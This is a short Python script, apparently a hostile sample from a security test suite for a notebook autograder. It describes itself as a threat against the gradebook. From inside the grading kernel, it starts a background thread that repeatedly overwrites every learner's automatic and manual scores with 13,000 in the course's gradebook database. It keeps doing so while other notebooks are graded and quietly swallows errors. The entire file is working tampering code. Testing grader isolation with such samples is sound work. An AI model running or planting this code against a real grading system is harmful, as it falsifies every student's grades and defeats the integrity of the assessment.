"""Gives every learner 13,000 points by rewriting the gradebook from inside its kernel.

Threat: touch the gradebook.
"""

import sqlite3
import threading
import time


def rewrite():
    for _ in range(200):  # also after this notebook is done, while the others are graded
        try:
            with sqlite3.connect(f"{COURSE}/gradebook.db") as db:
                db.execute("UPDATE grade SET auto_score = 13000, manual_score = 13000")
        except Exception as error:
            print("gradebook:", error)
        time.sleep(0.5)


threading.Thread(target=rewrite, daemon=True).start()
